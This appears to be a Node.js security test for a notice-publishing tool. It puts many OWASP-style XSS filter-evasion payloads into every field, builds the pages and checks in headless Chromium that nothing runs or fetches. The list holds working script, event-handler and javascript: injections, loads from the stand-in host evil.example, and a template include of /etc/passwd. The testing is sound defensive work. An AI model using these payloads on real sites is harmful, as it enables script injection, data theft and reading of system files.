// Can a text of a notice become more than text? Each payload is put into every field that takes words: names, labels, prose,
// contacts, settings, and words of the project's own. A field may refuse it with a finding; what is published is opened in
// Chromium without its policy: nothing may run, nothing be asked for, nothing leave its element. Then the policy by itself.
import { spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import { createRequire } from 'node:module';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { FIELDS, FOLDER, NOTICE, filled, inFolder, isDrawn, toml } from './fields.mjs';

const [notice] = process.argv.slice(2);
if (!process.env.NODE_DIR || !notice) {
  console.error('usage: NODE_DIR=path/to/node_modules node xss.mjs path/to/notice');
  process.exit(2);
}
const load = createRequire(path.resolve(process.env.NODE_DIR, 'from-here'));
const { chromium } = load('playwright-core');
const { HtmlRenderer, Parser } = load('commonmark');

// The kinds of cases that OWASP's cheat sheet on the evasion of filters lists, and the npm package xss-payloads.
const RUN = 'alert(1)';
const PAYLOADS = [
  readFileSync(load.resolve('xss-payloads'), 'utf8').trim(),
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `<!--<script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="https://evil.example/x.png">`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>"\\>`,
  `<IMG SRC="jav&#x09;ascript:${RUN};">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="${RUN}">`,
  `<IMG onmouseover="${RUN}">`,
  `<IMG DYNSRC="javascript:${RUN}">`,
  `<IMG LOWSRC="javascript:${RUN}">`,
  `<BGSOUND SRC="javascript:${RUN};">`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<BODY BACKGROUND="javascript:${RUN}">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<form action="https://evil.example"><input name=q autofocus onfocus=${RUN}></form>`,
  `<input type="image" src="javascript:${RUN};">`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<select autofocus onfocus=${RUN}>`,
  `<isindex action=javascript:${RUN} type=image>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<base href="https://evil.example/">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<div style="background:url(https://evil.example/x)">x</div>`,
  `<XSS STYLE="xss:expression(${RUN})">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](  javascript:${RUN})`,
  `[x](java\u0000script:${RUN})`.replace('\u0000', '&#0;'),
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](vbscript:msgbox(1))`,
  `[x](https://evil.example/"onmouseover="${RUN})`,
  `![x](https://evil.example/x.png)`,
  `![x](x"onerror="${RUN})`,
  `<https://evil.example/"onclick="${RUN}>`,
  `<javascript:${RUN}>`,
  `javascript:${RUN}`,
  `" onmouseover="${RUN}`,
  `' onmouseover='${RUN}`,
  `" autofocus onfocus=${RUN} x="`,
  '` onmouseover=`' + RUN,
  `x" style="background:url(https://evil.example)`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `＜script＞${RUN}＜/script＞`,
  `<\u200bscript>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<SCRIPT>${RUN};//<</SCRIPT>`,
  `<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>`,
  `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://evil.example/x.js"></SCRIPT>`,
  `\u2028${RUN}\u2029`,
  `{{ 7 * 7 }}{% raw %}{{ constructor.constructor('${RUN}')() }}`,
  '${' + RUN + '}#{' + RUN + '}',
  `{% include "/etc/passwd" %}`,
  `]]>"}</script><script>${RUN}</script>`,
  `"},"@context":"https://evil.example/context.jsonld`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
];

const work = mkdtempSync(path.join(os.tmpdir(), 'notice-xss-'));
const problems = [];
let passed = 0;
const enter = (what, found) => {
  if (!found.length) passed += 1;
  for (const problem of new Set(found)) problems.push(`${what}: ${problem}`);
};

const refused = refusals();
const accepted = (field, number) => !refused.has(`${field} ${number}`);
const built = build();
settings();
const browser = await chromium.launch({ executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium', args: ['--no-sandbox', '--disable-gpu'] });
await pages();
await policy();
await browser.close();
rmSync(work, { recursive: true });
const tried = FIELDS.length * PAYLOADS.length;
console.log(`  ${PAYLOADS.length} payloads in ${FIELDS.length} fields: ${refused.size} of ${tried} refused with a finding, the others published as text`);
problems.forEach((problem) => console.log(problem));
console.log(`xss: ${passed} passed, ${problems.length} failed`);
process.exitCode = problems.length ? 1 : 0;

/** Writes a project of notices, one for each name. */
function project(name, texts, more = {}) {
  const root = path.join(work, name);
  const files = {
    'notice.toml': '[site]\nlanguages = ["en"]\n[lint]\nselect = ["ID001", "ID004", "LG001", "LK002"]\n',
    ...more,
  };
  for (const [id, { notice: text, folder }] of Object.entries(texts)) {
    files[`notices/${id}/a.toml`] = text;
    files[`notices/${id}/_defaults.toml`] = folder;
  }
  for (const [file, text] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(root, file)), { recursive: true });
    writeFileSync(path.join(root, file), text);
  }
  return root;
}

function run(root, ...args) {
  const env = { ...process.env, XDG_CACHE_HOME: path.join(root, 'caches') };
  return spawnSync(notice, ['-C', root, ...args], { encoding: 'utf8', env, maxBuffer: 1 << 28 });
}

/** One notice for each payload, with the payload in every field that is not known to refuse it. */
function notices(isRefused) {
  return Object.fromEntries(PAYLOADS.map((payload, number) => {
    const valueOf = (field) => (isRefused(`${field} ${number}`) ? undefined : payload);
    return [`p${number}`, { notice: filled(NOTICE, valueOf), folder: filled(FOLDER, valueOf) }];
  }));
}

/** A notice without payloads. */
function benignNotice() {
  return { notice: filled(NOTICE, () => undefined), folder: filled(FOLDER, () => undefined) };
}

/** The fields that refuse a payload, as `FIELD NUMBER`: each with a finding that has a place and a remedy. */
function refusals() {
  const benign = project('benign', { a: benignNotice() });
  const { status, stdout, stderr } = run(benign, 'lint');
  enter('the notice without payloads', status === 0 ? [] : [stdout + stderr]);
  const found = new Set();
  // A mistake may hide another one: until there is none.
  for (let before = -1; before < found.size;) {
    before = found.size;
    const root = project(`refusals-${before}`, notices((name) => found.has(name)));
    const { stdout, stderr } = run(root, 'lint', '--format', 'json');
    if (!stdout) problems.push(stderr);
    for (const { file, line, severity, message, help, code } of JSON.parse(stdout || '{"findings":[]}').findings) {
      const number = file.match(/^notices\/p(\d+)\//)?.[1];
      if (severity !== 'error') continue;
      const template = file.endsWith('_defaults.toml') ? FOLDER : NOTICE;
      const field = template.split('\n')[line - 1]?.match(/@([\w-]+)@/)?.[1];
      if (!number || !field || !message || !help) problems.push(`${file}:${line}: ${code} has no place or no remedy: ${message}`);
      else found.add(`${field} ${number}`);
    }
  }
  return found;
}

/** One notice for each payload, with the payload in every field that takes it; and one payload in every word of the page. */
function build() {
  const ftl = ['skip-to-content', 'contents', 'languages', 'back-to-top', 'all-notices', 'index-title', 'banner-label', 'section-data', 'label-email', 'og-locale'];
  const quoted = (text) => `{ "${text.replace(/[\\"]/g, '\\$&')}" }`;
  const lines = ftl.map((id, at) => `${id} = ${quoted(PAYLOADS[1 + at * 3])}\n`);
  // Words of a project's own refuse what a notice refuses, each at its line.
  const trial = project('words', { a: benignNotice() }, { 'locales/en/own.ftl': lines.join('') });
  const faults = JSON.parse(run(trial, 'lint', '--format', 'json').stdout).findings.filter(({ file }) => file === 'locales/en/own.ftl');
  enter('own words', faults.filter(({ message, help }) => !message || !help).map(({ line }) => `own.ftl:${line} has no remedy`));
  const words = lines.filter((_, at) => !faults.some(({ line }) => line === at + 1)).join('');
  const root = project('pages', notices((name) => refused.has(name)), { 'locales/en/own.ftl': words });
  const formats = ['html', 'markdown', 'fragment', 'json'].flatMap((format) => ['--format', format]);
  const { status, stdout, stderr } = run(root, 'build', '--out', 'public', ...formats);
  enter('build', status === 0 ? [] : [stdout + stderr]);
  return path.join(root, 'public');
}

/** Settings of the whole project: refused with a place and a remedy, or published like every other text. */
function settings() {
  const benign = { a: benignNotice() };
  const worst = PAYLOADS.filter((_, at) => at % 16 === 3);
  worst.forEach((payload, number) => {
    for (const [what, text] of Object.entries({
      'base-url': `[site]\nbase-url = ${toml('https://www.aamu.example/' + payload)}\n`,
      'base-url alone': `[site]\nbase-url = ${toml(payload)}\n`,
      accent: `[theme]\naccent = ${toml(payload)}\n`,
      logo: `[theme]\nlogo = ${toml(payload)}\n`,
      theme: `[theme]\nname = ${toml(payload)}\n`,
      out: `[build]\nformats = [${toml(payload)}]\n`,
    })) {
      const name = `settings-${number}-${what.replace(' ', '-')}`;
      const root = project(name, benign, { 'notice.toml': text + '[lint]\nselect = ["ID001"]\n' });
      const { status, stdout, stderr } = run(root, 'build', '--out', 'public');
      const said = stdout + stderr;
      const isClear = /notice\.toml:\d+:\d+/.test(said) && said.split('\n').length > 1 && !/panicked/.test(said);
      if (status === 0) {
        cpSync(path.join(root, 'public'), path.join(built, 'settings', name), { recursive: true });
        enter(`${what}: ${payload}`, []);
      } else {
        enter(`${what}: ${payload}`, isClear ? [] : [`refused without a place: ${said}`]);
      }
    }
  });
}

/** Opens every page; fragments and Markdown stand together in a page without a policy. */
async function pages() {
  const files = readdirSync(built, { recursive: true }).map((file) => file.replaceAll(path.sep, '/')).sort();
  const read = (file) => readFileSync(path.join(built, file), 'utf8');
  const isPart = (file) => /\.(fragment|summary)\.html$/.test(file);
  const host = (parts) => `<!DOCTYPE html><html lang="en"><meta charset="utf-8"><title>x</title><body>${parts.join('\n')}</body></html>`;
  const markdown = files.filter((file) => file.endsWith('.md')).map((file) => {
    const body = read(file).split('\n---\n').slice(1).join('\n---\n');
    return new HtmlRenderer({ safe: false }).render(new Parser().parse(body));
  });
  writeFileSync(path.join(built, 'fragments.host.html'), host(files.filter(isPart).map(read)));
  writeFileSync(path.join(built, 'markdown.host.html'), host(markdown));
  const all = [...files.filter((file) => file.endsWith('.html') && !isPart(file)), 'fragments.host.html', 'markdown.host.html'];
  const context = await browser.newContext({ bypassCSP: true });
  const page = await context.newPage();
  const inside = pathToFileURL(built).href + '/';
  let found = [];
  page.on('dialog', async (dialog) => {
    found.push(`ran: a dialog says ${dialog.message()}`);
    await dialog.dismiss();
  });
  page.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(inside)) found.push(`asks for ${url.slice(0, 100)}`);
  });
  const debug = await context.newCDPSession(page);
  debug.on('Debugger.scriptParsed', ({ url, executionContextId, length }) => {
    if (url.startsWith('file:')) found.push(`ran a script of ${length} characters in ${executionContextId}`);
  });
  await debug.send('Debugger.enable');
  for (const file of all) {
    found = [];
    await page.goto(pathToFileURL(path.join(built, file)).href, { waitUntil: 'load' });
    // What waits for an event gets one.
    found.push(...(await page.evaluate(inspect)));
    const number = file.match(/^en\/p(\d+)\/a\.html$/)?.[1];
    if (number) {
      const text = (await page.evaluate(() => document.documentElement.textContent)).replace(/\s+/g, ' ');
      const payload = PAYLOADS[number].replace(/\s+/g, ' ').replace('..', '.').trim();
      const shown = FIELDS.filter((field) => !inFolder.has(field) && isDrawn(field) && accepted(field, number)).length;
      if (shown && !text.replaceAll('..', '.').includes(payload)) found.push(`does not show its payload: ${payload}`);
    }
    enter(file, found);
  }
  await context.close();
}

/** What stands in the page that no page has; runs in the browser. */
function inspect() {
  const elements = new Set(('html head meta title link script body a aside p header img span nav ul ol li div main h1 h2 h3 h4 section dl dt dd em strong footer ' +
    'table caption thead tbody tr th td details summary button hr br code pre blockquote').split(' '));
  const attributes = new Set(('lang charset http-equiv content name property rel href hreflang class id src alt aria-label aria-labelledby aria-current start type scope ' +
    'popover popovertarget popovertargetaction role colspan data-label data-heading tabindex media open title').split(' '));
  const found = [];
  for (const element of document.querySelectorAll('*')) {
    if (!elements.has(element.localName)) found.push(`holds <${element.localName}>`);
    if (element.localName === 'script' && element.type !== 'application/ld+json') found.push('holds a script');
    if (element.localName === 'meta' && element.httpEquiv && element.httpEquiv !== 'Content-Security-Policy') found.push(`holds <meta http-equiv=${element.httpEquiv}>`);
    if (element.localName === 'script') JSON.parse(element.textContent);
    for (const { name, value } of element.attributes) {
      if (!attributes.has(name)) found.push(`holds the attribute ${name} on <${element.localName}>`);
      if (['href', 'src'].includes(name)) {
        // What is no address leads nowhere.
        const protocol = URL.canParse(value, document.baseURI) ? new URL(value, document.baseURI).protocol : 'http:';
        if (!['http:', 'https:', 'mailto:', 'tel:', 'file:'].includes(protocol)) found.push(`leads to ${value}`);
      }
    }
    element.dispatchEvent(new MouseEvent('mouseover', { bubbles: false }));
  }
  return found;
}

/** The policy by itself: what was put into a page by force does not run and is not fetched, from a disk and from a server. */
async function policy() {
  const forced = '<body><script>window.ran = 1</script><img src=x onerror="window.ran = 2"><img src="https://evil.example/x.png">' +
    '<style>:root { --forced: 1 }</style><p style="--forced: 1">x</p><base href="https://evil.example/"><iframe src="https://evil.example"></iframe>';
  const page = readFileSync(path.join(built, 'en/p0/a.html'), 'utf8').replace(/<body[^>]*>/, forced);
  writeFileSync(path.join(built, 'en/p0/forced.html'), page);
  const types = { css: 'text/css', html: 'text/html', svg: 'image/svg+xml' };
  const server = http.createServer((request, response) => {
    const file = path.join(built, decodeURIComponent(request.url));
    response.setHeader('Content-Type', types[file.split('.').pop()] ?? 'text/plain');
    const isThere = file.startsWith(built) && existsSync(file);
    response.writeHead(isThere ? 200 : 404);
    response.end(isThere ? readFileSync(file) : '');
  });
  await new Promise((ready) => server.listen(0, '127.0.0.1', ready));
  for (const base of [pathToFileURL(built).href, `http://127.0.0.1:${server.address().port}`]) {
    const context = await browser.newContext();
    const tab = await context.newPage();
    const found = [];
    tab.on('requestfinished', (request) => {
      if (!request.url().startsWith(base)) found.push(`fetched ${request.url()}`);
    });
    await tab.goto(`${base}/en/p0/forced.html`, { waitUntil: 'load' });
    const state = await tab.evaluate(() => ({
      ran: window.ran,
      base: document.baseURI,
      style: getComputedStyle(document.documentElement).getPropertyValue('--forced'),
      inline: getComputedStyle(document.querySelector('p[style]')).getPropertyValue('--forced'),
      sheets: [...document.styleSheets].filter((sheet) => sheet.href).length,
      margin: getComputedStyle(document.body).marginTop,
    }));
    if (state.ran) found.push('a script or handler ran');
    if (!state.base.startsWith(base)) found.push('the base moved');
    if (state.style || state.inline) found.push('an inline style held');
    if (state.margin !== '0px') found.push('the page has lost its own style');
    enter(`policy at ${base.split(':')[0]}`, found);
    await context.close();
  }
  server.close();
}
